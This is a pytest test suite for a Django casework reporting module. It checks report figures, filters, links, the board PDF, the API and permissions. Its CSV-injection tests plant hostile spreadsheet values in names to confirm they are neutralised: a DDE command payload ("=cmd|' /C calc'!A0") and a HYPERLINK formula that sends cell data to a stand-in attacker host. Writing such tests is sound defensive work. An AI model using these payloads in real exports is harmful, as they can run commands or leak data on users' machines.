"""Manager reports: each figure checked exactly against known data, the links behind the
figures, CSV neutralisation, the board PDF, the API, permissions and query counts."""

import csv
import io
from dataclasses import replace
from datetime import timedelta

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from casework.models import Assignment, Case, Deadline, KeyDate, Outcome
from casework.outcomes import OutcomeCode, PlanStage
from casework.reports.aggregates import percentiles
from casework.reports.export import neutralise, table_csv
from casework.reports.params import ReportFilterForm, ReportParams, quick_period
from casework.reports.registry import build_report
from casework.reports.tables import Cell, Table
from enquiries.models import Channel, Enquiry, Organisation, Status
from knowledgebase.models import Article, DeadlineRule
from tests.factories import ContactFactory, EnquiryFactory, OrganisationFactory

pytestmark = pytest.mark.django_db


def days_ago(n: int, hours: int = 0):
    return timezone.now() - timedelta(days=n, hours=hours)


def figures(table: Table) -> dict[str, list]:
    return {row[0].value: [c.value for c in row[1:]] for row in table.rows}


def period(days_back: int = 29, bucket: str = "week") -> ReportParams:
    today = timezone.localdate()
    return ReportParams(date_from=today - timedelta(days=days_back), date_to=today, bucket=bucket)


def period_query(days_back: int = 29) -> dict[str, str]:
    """The same period as ``period()``, as a report's query string: a fixed window rather
    than "this month", whose early days would leave the fixtures' data outside it."""
    today = timezone.localdate()
    return {"date_from": (today - timedelta(days=days_back)).isoformat(), "date_to": str(today)}


def enquiry(**kwargs) -> Enquiry:
    kwargs.setdefault("received_at", days_ago(1))
    kwargs.setdefault("status", Status.IN_PROGRESS)
    if kwargs["status"] == Status.CLOSED:
        kwargs.setdefault("closed_at", kwargs["received_at"] + timedelta(hours=1))
    return EnquiryFactory(**kwargs)


# --- caseload now ---


@pytest.fixture
def caseload(adviser, other_adviser, manager, topics, areas):
    today = timezone.localdate()
    adviser.capacity = 1
    adviser.save()
    a = enquiry(
        assigned_to=adviser.user,
        received_at=days_ago(3),
        first_response_due=today - timedelta(days=1),
    )
    b = enquiry(
        assigned_to=adviser.user,
        received_at=days_ago(20),
        status=Status.AWAITING_GROUP,
        sla_paused_since=days_ago(2),
        first_response_due=today - timedelta(days=5),
    )
    c = enquiry(
        assigned_to=None, received_at=days_ago(70), status=Status.RECEIVED, first_response_due=today
    )
    enquiry(assigned_to=adviser.user, status=Status.CLOSED, received_at=days_ago(5))
    theirs = enquiry(assigned_to=other_adviser.user, received_at=days_ago(9))
    rule = DeadlineRule.objects.first()
    key_date = KeyDate.objects.create(
        enquiry=b, trigger=rule.trigger, date=today, recorded_by=adviser.user
    )
    Deadline.objects.create(
        key_date=key_date, rule=rule, enquiry=b, ends_on=today + timedelta(days=5)
    )
    return {"a": a, "b": b, "c": c, "theirs": theirs}


def test_caseload_figures_are_exact(caseload, manager):
    report = build_report("caseload", period(), user=manager.user)
    summary = figures(report.table("summary"))
    assert summary["Open enquiries"] == [4]
    assert summary["Unassigned"] == [1]
    assert summary["Waiting for the group"] == [1]
    assert summary["With a statutory deadline in the next 14 days"] == [1]
    assert summary["Service level breached"] == [1]  # a; b is paused
    assert summary["Service level at risk"] == [1]  # c, due today
    assert [r[1].value for r in report.table("ageing").rows] == [1, 1, 1, 0, 1]


def test_caseload_marks_an_overloaded_adviser_in_words(caseload, manager, adviser, other_adviser):
    rows = {
        r[0].value: r
        for r in build_report("caseload", period(), user=manager.user).table("advisers").rows
    }
    ada = rows[adviser.name]
    assert [ada[2].value, ada[4].value, ada[6].value] == [2, 1, "Overloaded"]
    assert rows[other_adviser.name][6].value == "Within capacity"


def test_adviser_sees_only_herself_and_her_team_in_caseload(caseload, adviser, teammate):
    report = build_report("caseload", period(), user=adviser.user)
    assert set(figures(report.table("advisers"))) == {adviser.name, teammate.name}
    assert figures(report.table("summary"))["Open enquiries"] == [2]  # not Omar's, not the queue's
    assert [r[0].value for r in report.table("teams").rows] == ["Assets and Right to Bid"]


@pytest.fixture
def team_work(caseload, adviser, other_adviser, teammate, teams):
    """Tess (Ada's team) holds one open enquiry in the assets team's queue; Omar's is in
    planning's. Ada leads an open case and Tess a closed one; Omar leads two open cases."""
    held = enquiry(assigned_to=teammate.user, received_at=days_ago(2))
    for e, who, team in [
        (held, teammate, "assets"),
        (caseload["theirs"], other_adviser, "planning"),
    ]:
        Assignment.objects.create(
            enquiry=e, adviser=who, team=teams[team], method=Assignment.Method.ROUTED, reason="-"
        )
    Case.objects.create(title="The Red Lion", lead_adviser=adviser, opened_by=adviser.user)
    Case.objects.create(
        title="Old plan",
        lead_adviser=teammate,
        opened_by=teammate.user,
        status=Case.Status.CLOSED,
        closed_at=days_ago(1),
    )
    for title in ("Plan A", "Plan B"):
        Case.objects.create(title=title, lead_adviser=other_adviser, opened_by=other_adviser.user)
    return held


def test_teams_show_open_enquiries_and_open_cases_exactly(team_work, manager, teams):
    report = build_report("caseload", period(), user=manager.user)
    rows = figures(report.table("teams"))
    # Team, open enquiries, of which unassigned, open cases, capacity, load %, load.
    assert rows[teams["assets"].name][:3] == [1, 0, 1]  # Tess's enquiry; Ada's case
    assert rows[teams["planning"].name][:3] == [1, 0, 2]  # Omar's enquiry and two cases
    assert rows[teams["triage"].name][:3] == [0, 0, 0]


def test_team_cases_follow_the_adviser_filter(team_work, manager, adviser, teams):
    report = build_report("caseload", replace(period(), adviser=adviser), user=manager.user)
    rows = figures(report.table("teams"))
    assert rows[teams["assets"].name][:3] == [0, 0, 1]  # Ada holds no team-queued enquiry
    assert rows[teams["planning"].name][:3] == [0, 0, 0]


def _tables(body: dict) -> dict[str, dict]:
    return {
        t["key"]: {row[0]["value"]: [c["value"] for c in row[1:]] for row in t["rows"]}
        for t in body["tables"]
    }


def test_adviser_caseload_page_and_api_show_only_her_and_her_teams_figures(
    client, api_client, team_work, adviser, teammate, teams
):
    client.force_login(adviser.user)
    response = client.get(reverse("reports:report", args=["caseload"]))
    assert response.status_code == 200
    report = response.context["report"]
    page = {t.key: figures(t) for t in report.tables}
    api_client.force_authenticate(adviser.user)
    api = _tables(api_client.get("/api/v1/reports/caseload/").json())
    for tables in (page, api):
        assert tables["summary"]["Open enquiries"] == [3]  # a, b and Tess's; not Omar's or c
        assert tables["summary"]["Unassigned"] == [0]
        assert set(tables["advisers"]) == {adviser.name, teammate.name}
        assert tables["advisers"][adviser.name][1:3] == [2, 1]  # open enquiries, open cases
        assert tables["advisers"][teammate.name][1:3] == [1, 0]
        assert tables["teams"] == {teams["assets"].name: [1, 0, 1, 26, 3.8, "Within capacity"]}
    assert "Limited to you and your teams." in response.content.decode()


def test_adviser_caseload_csv_has_only_her_teams(client, team_work, adviser, teams):
    client.force_login(adviser.user)
    response = client.get(reverse("reports:csv", args=["caseload", "teams"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert [r[0] for r in rows[1:]] == [teams["assets"].name]


# --- flow ---


@pytest.fixture
def flow(adviser, topics, areas):
    today = timezone.localdate()
    made = []
    for days, channel, frwd in [
        (1, Channel.WEB, 1),
        (2, Channel.WEB, 2),
        (3, Channel.EMAIL, 3),
        (4, Channel.PHONE, 4),
        (5, Channel.WEB, 10),
    ]:
        made.append(
            enquiry(
                received_at=days_ago(days),
                channel=channel,
                topic=topics["acv-notice-of-sale"],
                local_authority=areas["west-lindsey"],
                first_response_working_days=frwd,
            )
        )
    # Compliance: met, late, overdue without response, not yet due.
    due = today - timedelta(days=2)
    Enquiry.objects.filter(pk=made[0].pk).update(
        first_response_due=due, first_response_at=days_ago(3)
    )
    Enquiry.objects.filter(pk=made[1].pk).update(
        first_response_due=due, first_response_at=days_ago(0, 1)
    )
    Enquiry.objects.filter(pk=made[2].pk).update(first_response_due=due)
    Enquiry.objects.filter(pk=made[3].pk).update(first_response_due=today + timedelta(days=3))
    closed = enquiry(
        received_at=days_ago(6),
        status=Status.CLOSED,
        closed_at=days_ago(2),
        resolution_working_days=7,
    )
    # Resolution: met (made[4]), late (closed), overdue without resolution (made[3]).
    Enquiry.objects.filter(pk=made[4].pk).update(resolution_due=today, resolved_at=days_ago(1))
    Enquiry.objects.filter(pk=closed.pk).update(
        resolution_due=today - timedelta(days=3), resolved_at=days_ago(2)
    )
    Enquiry.objects.filter(pk=made[3].pk).update(resolution_due=today - timedelta(days=1))
    enquiry(received_at=days_ago(90))  # before the period
    return made


def test_flow_counts_times_and_compliance_are_exact(flow, manager, topics):
    report = build_report("flow", period(), user=manager.user)
    channels = figures(report.table("received_channel"))
    assert channels["Web form"][-1] == 4  # 3 + the closed one (web by default)
    assert channels["Email"][-1] == 1 and channels["Phone"][-1] == 1
    assert figures(report.table("received_topic"))[topics["right-to-bid"].name][-1] == 5
    times = figures(report.table("times"))
    assert times["First response"] == [5, 3, pytest.approx(7.6)]  # 1,2,3,4,10
    assert times["Resolution"] == [1, 7, 7]
    compliance = figures(report.table("compliance"))
    assert compliance["First response by its due date"] == [3, 1, 33.3]
    assert compliance["Resolution by its due date"] == [3, 1, 33.3]
    assert figures(report.table("closures"))["Closed"][-1] == 1


def test_percentile_matches_percentile_cont_definition(flow):
    count, values = percentiles(
        Enquiry.objects.all(), "first_response_working_days", (0, 0.25, 0.5, 1)
    )
    assert count == 5
    assert values == [1, 2, 3, 10]


# --- outcomes and social value ---


@pytest.fixture
def outcomes(adviser, topics, areas):
    org = OrganisationFactory(name="Friends of the Red Lion", local_authority=areas["west-lindsey"])
    contact = ContactFactory(organisation=org)
    first = enquiry(
        contact=contact,
        organisation=org,
        topic=topics["right-to-bid"],
        local_authority=areas["west-lindsey"],
        received_at=days_ago(4),
    )
    second = enquiry(
        contact=contact,
        organisation=org,
        topic=topics["acv-notice-of-sale"],
        local_authority=areas["west-lindsey"],
        received_at=days_ago(2),
    )
    other = enquiry(topic=topics["np-getting-started"], received_at=days_ago(3))
    user = adviser.user
    for e, code, stage in [
        (first, OutcomeCode.ASSET_LISTED, ""),
        (second, OutcomeCode.ASSET_LISTED, ""),
        (second, OutcomeCode.REQUEST_TO_BID, ""),
        (first, OutcomeCode.ASSET_TRANSFERRED, ""),
        (other, OutcomeCode.PLAN_STAGE_REACHED, PlanStage.REFERENDUM),
        (other, OutcomeCode.GUIDANCE_SENT, ""),
    ]:
        Outcome.objects.create(enquiry=e, code=code, plan_stage=stage, recorded_by=user)
    return {"first": first, "second": second, "other": other, "org": org}


def test_outcomes_and_social_value_are_exact(outcomes, manager, topics):
    report = build_report("outcomes", period(), user=manager.user)
    value = figures(report.table("social_value"))
    assert value["Assets listed as assets of community value"] == [2]
    assert value["Bids made (written requests to be treated as a bidder)"] == [1]
    assert value["Assets brought into community ownership"] == [1]
    assert figures(report.table("plan_stages"))[PlanStage.REFERENDUM.label] == [1]
    by_code = figures(report.table("outcomes_code"))
    assert by_code[OutcomeCode.ASSET_LISTED.label] == [2, 2]
    by_topic = figures(report.table("outcomes_topic"))
    assert by_topic[topics["right-to-bid"].name] == [4, 4, 2]
    assert by_topic[topics["neighbourhood-planning"].name] == [2, 1, 1]
    assert figures(report.table("repeat_enquirers")) == {"Friends of the Red Lion": [2]}
    assert figures(report.table("groups_area"))["West Lindsey"] == [1, 2]


def test_repeat_enquirers_list_the_25_with_most_then_by_name_as_the_database_orders_them(
    manager,
):
    """Ties at the 25th place are broken by name in the database's own order (its
    collation), as ORDER BY n DESC, name would, and the figures are plain integers."""
    names = ["acorn", "Beech", "cedar", "Ash", "birch", *(f"Group {i:02}" for i in range(25))]
    organisations = [OrganisationFactory(name=name) for name in names]
    for i, organisation in enumerate(organisations):
        for _ in range(4 if i == 5 else 2):  # "Group 00" has most; the rest tie on 2
            enquiry(organisation=organisation, contact=ContactFactory())

    table = build_report("outcomes", period(), user=manager.user).table("repeat_enquirers")

    mine = Organisation.objects.filter(pk__in=[o.pk for o in organisations])
    tied = [o.name for o in mine.exclude(name="Group 00").order_by("name", "pk")]
    assert [row[0].value for row in table.rows] == ["Group 00", *tied[:24]]
    assert [row[1].value for row in table.rows][:2] == [4, 2]
    assert all(type(row[1].value) is int for row in table.rows)
    assert "30 groups" in table.description
    areas = build_report("outcomes", period(), user=manager.user).table("groups_area")
    assert all(type(row[2].value) is int for row in areas.rows)


# --- demand insight ---


def test_growth_and_guidance_gaps_are_exact(adviser, manager, topics):
    for i in range(10):
        enquiry(topic=topics["acv-notice-of-sale"], received_at=days_ago(i % 9))
    for i in range(5):
        enquiry(topic=topics["right-to-bid"], received_at=days_ago(12 + i % 5))
    for _ in range(4):
        enquiry(topic=topics["np-getting-started"], received_at=days_ago(1))  # under the minimum
    Article.objects.update(status=Article.Status.WITHDRAWN)
    plans = Article.objects.create(
        slug="np",
        title="Plans",
        summary="s",
        body="b",
        status="published",
        published_at=timezone.now(),
    )
    plans.topics.set([topics["np-getting-started"], topics["neighbourhood-planning"]])
    report = build_report("demand", period(days_back=9), user=manager.user)
    growth = figures(report.table("growth_topic"))
    assert growth == {topics["right-to-bid"].name: [10, 5, 5, 100.0]}
    gaps = figures(report.table("guidance_gaps"))
    assert gaps[topics["right-to-bid"].name] == [10, 0, None, "Few (none)"]
    assert gaps[topics["neighbourhood-planning"].name] == [4, 1, 4.0, "Enough"]


# --- every figure links to the enquiries behind it ---


LINKED = {
    "caseload": ["summary", "ageing", "advisers", "teams"],
    "flow": [
        "received_channel",
        "received_topic",
        "received_enquirer_type",
        "received_area",
        "times",
        "closures",
        "compliance",
    ],
    "outcomes": [
        "social_value",
        "plan_stages",
        "outcomes_code",
        "outcomes_topic",
        "outcomes_area",
        "groups_area",
        "repeat_enquirers",
    ],
    "demand": ["growth_topic", "growth_area", "guidance_gaps"],
}


@pytest.fixture
def demand(topics, areas):
    """Growth in neighbourhood planning in Bassetlaw (6 now, 5 in the period before), and
    individuals (no organisation) in West Lindsey, where the groups above are too."""
    for _ in range(6):
        enquiry(topic=topics["np-getting-started"], local_authority=areas["bassetlaw"])
    for i in range(5):
        enquiry(
            topic=topics["neighbourhood-planning"],
            local_authority=areas["bassetlaw"],
            received_at=days_ago(35 + i),
        )
    for channel in (Channel.PHONE, Channel.EMAIL):
        individual = ContactFactory(organisation=None)
        enquiry(contact=individual, local_authority=areas["west-lindsey"], channel=channel)


def _follow_links(client, report, keys) -> dict[str, int]:
    """Open every link in the tables ``keys``; each queue must list exactly the figure.
    Returns how many links each table had."""
    checked = dict.fromkeys(keys, 0)
    for key in keys:
        for row in report.table(key).rows:
            for cell in row:
                if not cell.href:
                    continue
                response = client.get(cell.href)
                assert response.status_code == 200, cell.href
                assert response.context["page"].paginator.count == cell.value, (
                    key,
                    row[0].value,
                    cell.href,
                )
                checked[key] += 1
    return checked


@pytest.mark.parametrize("name", LINKED)
def test_each_linked_figure_matches_the_queue_behind_it(
    name, client, manager, caseload, flow, outcomes, demand
):
    client.force_login(manager.user)
    report = build_report(name, period(), user=manager.user)
    checked = _follow_links(client, report, LINKED[name])
    assert all(checked.values()), checked  # every table listed has links, and they held


TOPIC_ROWS = {
    "flow": ["received_topic", "received_channel"],
    "outcomes": ["outcomes_topic", "outcomes_code"],
    "demand": ["guidance_gaps"],
}


@pytest.mark.parametrize("name", TOPIC_ROWS)
def test_links_under_a_sub_topic_filter_list_only_that_sub_topic(
    name, client, manager, flow, outcomes, demand, topics
):
    """Rows are top-level topics; with a sub-topic filter a row's link keeps the sub-topic
    (the top-level topic would also list its other sub-topics and itself)."""
    client.force_login(manager.user)
    params = replace(period(), topic=topics["acv-notice-of-sale"])
    report = build_report(name, params, user=manager.user)
    checked = _follow_links(client, report, TOPIC_ROWS[name])
    assert all(checked.values()), checked


# --- each filter changes the figures exactly ---


@pytest.fixture
def spread(adviser, other_adviser, teams, topics, areas):
    """Four enquiries that the filters tell apart (channel, topic, area, adviser, team)."""

    def held(e, who, team):
        Assignment.objects.create(
            enquiry=e, adviser=who, team=team, method=Assignment.Method.ROUTED, reason="-"
        )

    ada = enquiry(
        channel=Channel.WEB,
        topic=topics["acv-notice-of-sale"],
        local_authority=areas["west-lindsey"],
        assigned_to=adviser.user,
    )
    held(ada, adviser, teams["assets"])
    omar = enquiry(
        channel=Channel.EMAIL,
        topic=topics["np-getting-started"],
        local_authority=areas["bassetlaw"],
        assigned_to=other_adviser.user,
    )
    held(omar, other_adviser, teams["planning"])
    queued = enquiry(
        channel=Channel.PHONE,
        topic=topics["right-to-bid"],
        local_authority=areas["west-lindsey"],
        assigned_to=None,
    )
    held(queued, None, teams["assets"])
    enquiry(channel=Channel.WEB, topic=None, local_authority=None, assigned_to=None)


FILTERS = [
    # (filter, value: a fixture's attribute, received (flow), open (caseload))
    (None, None, 4, 4),
    ("team", "assets", 2, 2),
    ("adviser", "ada", 1, 1),
    ("topic", "right-to-bid", 2, 2),
    ("topic", "acv-notice-of-sale", 1, 1),
    ("area", "west-lindsey", 2, 2),
    ("channel", "email", 1, 1),
]


@pytest.mark.parametrize(("name", "value", "received", "open_"), FILTERS)
def test_each_filter_changes_the_figures_exactly(
    name, value, received, open_, api_client, manager, adviser, teams, spread
):
    query = dict(period_query())
    if name == "team":
        query["team"] = teams[value].slug
    elif name == "adviser":
        query["adviser"] = str(adviser.pk)
    elif name:
        query[name] = value
    api_client.force_authenticate(manager.user)
    flow = _tables(api_client.get("/api/v1/reports/flow/", query).json())
    assert sum(row[-1] for row in flow["received_channel"].values()) == received
    caseload = _tables(api_client.get("/api/v1/reports/caseload/", query).json())
    assert caseload["summary"]["Open enquiries"] == [open_]
    demand = _tables(api_client.get("/api/v1/reports/demand/", query).json())
    with_topic = received - 1 if name is None else received  # no row for "no topic"
    assert sum(row[0] for row in demand["guidance_gaps"].values()) == with_topic


# --- pages, CSV, PDF, API, permissions ---


@pytest.mark.parametrize("name", ["caseload", "flow", "outcomes", "demand"])
def test_manager_sees_each_report_with_charts_and_tables(client, manager, flow, outcomes, name):
    client.force_login(manager.user)
    response = client.get(reverse("reports:report", args=[name]), period_query())
    assert response.status_code == 200
    html = response.content.decode()
    assert 'src="data:image/svg+xml;base64,' in html and "<table>" in html
    assert response["Cache-Control"] == "no-store"


def test_chart_svg_has_title_and_desc_and_no_script(flow, manager):
    from casework.reports.charts import chart_svg

    svg = chart_svg(build_report("flow", period(), user=manager.user).table("received_channel"))
    assert "<title>Enquiries received by channel</title><desc>" in svg
    assert "<script" not in svg
    # the board report puts every chart inline in one document: no id twice
    assert 'id="activate-serie' not in svg and svg.count(' id="') == 1


def test_a_chart_is_drawn_once_for_the_same_figures_and_again_when_they_change(monkeypatch):
    from casework.reports import charts
    from casework.reports.tables import Table

    drawn = []
    bars = charts._bars
    monkeypatch.setattr(charts, "_bars", lambda spec: drawn.append(spec) or bars(spec))

    def table(web: int) -> Table:
        made = Table("t", "Enquiries by channel", ["Channel", "Enquiries"], chart="bars")
        made.add("Web", web)
        made.add("Email", 2)
        return made

    first = charts.chart_svg(table(7))
    assert charts.chart_svg(table(7)) == first and len(drawn) == 1  # same figures: kept
    assert charts.chart_svg(table(8)) != first and len(drawn) == 2  # a figure moved: drawn


def test_board_html_gives_each_chart_its_own_id_even_when_one_is_shown_twice(flow, manager):
    import re

    from casework.reports.pdf import board_report_html

    params = period()
    report = build_report("flow", params, user=manager.user)
    html = board_report_html([report, report], params)  # every chart twice, drawn once
    ids = re.findall(r' id="([^"]+)"', html)
    assert len(ids) >= 4 and len(ids) == len(set(ids))


def test_invalid_filters_show_a_linked_error_and_400(client, manager):
    client.force_login(manager.user)
    response = client.get(
        reverse("reports:report", args=["flow"]),
        {"date_from": "2026-05-10", "date_to": "2026-05-01"},
    )
    assert response.status_code == 400
    assert 'href="#id_date_to"' in response.content.decode()


def test_day_buckets_over_a_long_period_are_refused():
    form = ReportFilterForm({"date_from": "2025-01-01", "date_to": "2025-12-31", "bucket": "day"})
    assert not form.is_valid() and "bucket" in form.errors


def test_quick_periods():
    from datetime import date

    today = date(2026, 5, 14)
    assert quick_period("last_quarter", today) == (date(2026, 1, 1), date(2026, 3, 31))
    assert quick_period("last_month", today) == (date(2026, 4, 1), date(2026, 4, 30))
    assert quick_period("last_quarter", date(2026, 2, 1)) == (date(2025, 10, 1), date(2025, 12, 31))


def test_csv_neutralises_formulas_and_keeps_numbers():
    table = Table("t", "T", ["=Name", "Count"])
    table.add(Cell('=HYPERLINK("http://x")'), Cell(-5))
    for bad in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"]:
        table.add(Cell(bad), Cell(1))
    rows = list(csv.reader(io.StringIO(table_csv(table))))
    assert rows[0] == ["'=Name", "Count"]
    assert rows[1] == ['\'=HYPERLINK("http://x")', "-5"]
    assert [r[0] for r in rows[2:]] == ["'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert neutralise("Friends of the Red Lion") == "Friends of the Red Lion"


def test_csv_download_of_a_table_with_a_hostile_group_name(client, manager, outcomes):
    outcomes["org"].name = "=cmd|' /C calc'!A0"
    outcomes["org"].save()
    client.force_login(manager.user)
    response = client.get(
        reverse("reports:csv", args=["outcomes", "repeat_enquirers"]), period_query()
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "2"]


def test_no_csv_of_any_report_starts_a_cell_with_a_formula(client, manager, adviser, outcomes):
    """Issue 13: every CSV the desk offers (each table of each report), with hostile names
    wherever people write them: the group, the adviser, the team."""
    from casework.reports.export import FORMULA_STARTS
    from casework.reports.registry import REPORTS

    outcomes["org"].name = '=HYPERLINK("http://evil.example/"&A1,"Click")'
    outcomes["org"].save()
    adviser.user.first_name, adviser.user.last_name = "+SUM(1,2)", "@risk"
    adviser.user.save()
    adviser.teams.update(name="-2+3")
    client.force_login(manager.user)
    query = period_query()
    checked, cells = 0, set()
    for name in REPORTS:
        report = client.get(reverse("reports:report", args=[name]), query).context["report"]
        for table in report.tables:
            response = client.get(reverse("reports:csv", args=[name, table.key]), query)
            assert response.status_code == 200, (name, table.key)
            for row in csv.reader(io.StringIO(response.content.decode())):
                for cell in row:
                    is_number = cell.lstrip("-").replace(".", "", 1).isdigit()
                    assert is_number or not cell.startswith(FORMULA_STARTS), (name, table.key, cell)
                    cells.add(cell)
            checked += 1
    assert checked >= 8  # every report's tables were exported
    # The hostile names did reach the exports, neutralised.
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert any(c.startswith("'+SUM(1,2)") for c in cells)


def test_board_pdf_reads_back_with_title_and_figures(client, manager, outcomes):
    client.force_login(manager.user)
    response = client.get(reverse("reports:board_pdf"), period_query())
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    assert reader.metadata.title.startswith("Board report:")
    text = "".join(page.extract_text() for page in reader.pages)
    assert "Assets listed as assets of community value" in text
    assert "Friends of the Red Lion" in text


def test_board_report_with_too_many_columns_is_refused_with_a_clear_page(client, manager):
    """60 days by day is a valid report, but too wide to print: a 400 page saying what to
    change, and the report page offers the advice instead of the link."""
    client.force_login(manager.user)
    query = {**period_query(days_back=59), "bucket": "day"}
    response = client.get(reverse("reports:board_pdf"), query)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "choose a shorter period or a wider bucket" in response.content.decode()
    page = client.get(reverse("reports:report", args=["flow"]), query)
    assert page.status_code == 200
    assert "choose a shorter period or a wider bucket" in page.content.decode()
    assert reverse("reports:board_pdf") not in page.content.decode()


def test_board_report_over_the_renderers_limits_is_a_413_page(client, manager, monkeypatch):
    import casework.desk.pdf

    monkeypatch.setattr(casework.desk.pdf, "MAX_HTML_BYTES", 10_000)  # render_pdf's own check
    client.force_login(manager.user)
    response = client.get(reverse("reports:board_pdf"), period_query())
    assert response.status_code == 413
    assert "choose a shorter period or a wider bucket" in response.content.decode()


def test_board_report_that_asks_to_fetch_is_an_error_page_not_a_crash(client, manager, monkeypatch):
    """RenderRefused derives from BaseException, which Django's handler would let through."""
    from casework.reports import pdf

    fetching = '<!doctype html><html lang="en"><title>x</title><img src="http://example.org/x.png">'
    monkeypatch.setattr(pdf, "board_report_html", lambda reports, params: fetching)
    client.force_login(manager.user)
    response = client.get(reverse("reports:board_pdf"), period_query())
    assert response.status_code == 500
    assert "could not be made" in response.content.decode()


def test_board_report_with_invalid_filters_is_a_400_page(client, manager):
    client.force_login(manager.user)
    response = client.get(
        reverse("reports:board_pdf"), {"date_from": "2026-05-10", "date_to": "2026-05-01"}
    )
    assert response.status_code == 400
    assert "The end of the period must be on or after its start." in response.content.decode()


def test_api_returns_the_same_figures(api_client, manager, flow):
    api_client.force_authenticate(manager.user)
    response = api_client.get("/api/v1/reports/flow/", period_query())
    assert response.status_code == 200
    body = response.json()
    tables = {t["key"]: t for t in body["tables"]}
    assert tables["times"]["rows"][0][1]["value"] == 5
    assert tables["times"]["rows"][0][1]["href"].startswith("/desk/?queue=all")


def test_api_bad_filters_are_a_json_400(api_client, manager):
    api_client.force_authenticate(manager.user)
    response = api_client.get("/api/v1/reports/flow/", {"date_from": "nonsense"})
    assert response.status_code == 400 and "date_from" in response.json()


@pytest.mark.parametrize("name", ["flow", "outcomes", "demand"])
def test_adviser_may_not_see_managers_reports(client, api_client, adviser, name):
    client.force_login(adviser.user)
    assert client.get(reverse("reports:report", args=[name])).status_code == 403
    assert client.get(reverse("reports:board_pdf"), period_query()).status_code == 403
    table = LINKED[name][0]
    assert client.get(reverse("reports:csv", args=[name, table])).status_code == 403
    response = client.get(reverse("reports:report", args=[name]), {"format": "csv", "table": table})
    assert response.status_code == 403
    api_client.force_authenticate(adviser.user)
    assert api_client.get(f"/api/v1/reports/{name}/").status_code == 403


def test_adviser_sees_her_caseload(client, api_client, adviser):
    client.force_login(adviser.user)
    assert client.get(reverse("reports:report", args=["caseload"])).status_code == 200
    assert client.get(reverse("reports:index")).status_code == 200
    api_client.force_authenticate(adviser.user)
    assert api_client.get("/api/v1/reports/caseload/").status_code == 200


def test_anonymous_and_outsiders_see_no_reports(client, api_client, outsider):
    response = client.get(reverse("reports:report", args=["caseload"]))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    assert api_client.get("/api/v1/reports/caseload/").status_code in (401, 403)
    client.force_login(outsider)
    assert client.get(reverse("reports:index")).status_code == 403
    assert client.get(reverse("reports:report", args=["caseload"])).status_code == 403
    api_client.force_authenticate(outsider)
    assert api_client.get("/api/v1/reports/caseload/").status_code == 403


def test_unknown_report_is_404(client, manager):
    client.force_login(manager.user)
    assert client.get("/reports/nonsense/").status_code == 404


# --- query counts are constant ---


def _more_data(n: int, adviser, topics, areas):
    for i in range(n):
        e = enquiry(
            assigned_to=adviser.user if i % 2 else None,
            topic=list(topics.values())[i % len(topics)],
            local_authority=list(areas.values())[i % 7],
            organisation=OrganisationFactory(),
            received_at=days_ago(i % 25),
            first_response_working_days=i % 6,
        )
        Outcome.objects.create(enquiry=e, code=OutcomeCode.ASSET_LISTED, recorded_by=adviser.user)


# Each report alone (measured with the permissions already looked up): caseload 10, flow 6
# on PostgreSQL (SQLite: three more GROUP BYs, and each percentile a COUNT and two LIMIT
# queries: up to 15), outcomes up to 11 (SQLite 12), demand 6, knowledge 8. The page adds
# the session, the user, permissions and the filter form's choices. On PostgreSQL a report
# also runs in its own transaction (a savepoint here) with its settings and its turn
# (session.py): 4 more. Flow, demand and knowledge read the received figures from rollups
# (casework.rollups): one query for the period's dirty days, then for a period with clean
# and dirty days both parts (flow: SQLite 4 more GROUP BYs, PostgreSQL 1; demand 2).
PAGE_QUERIES = {"caseload": 20, "flow": 31, "outcomes": 22, "demand": 20, "knowledge": 22}
SESSION_QUERIES = 4 if connection.vendor == "postgresql" else 0


@pytest.mark.parametrize("name", PAGE_QUERIES)
def test_report_page_queries_do_not_grow_with_data(
    name, client, manager, adviser, topics, areas, django_assert_max_num_queries
):
    client.force_login(manager.user)
    url = reverse("reports:report", args=[name])
    for size in (3, 30):
        _more_data(size, adviser, topics, areas)
        with django_assert_max_num_queries(PAGE_QUERIES[name] + SESSION_QUERIES):
            assert client.get(url, period_query()).status_code == 200


def test_format_csv_parameter_downloads_a_table(client, manager, flow):
    client.force_login(manager.user)
    response = client.get(
        reverse("reports:report", args=["flow"]),
        {**period_query(), "format": "csv", "table": "received_channel"},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "Channel" and rows[0][-1] == "Total"
    assert {r[0]: r[-1] for r in rows[1:]}["Email"] == "1"
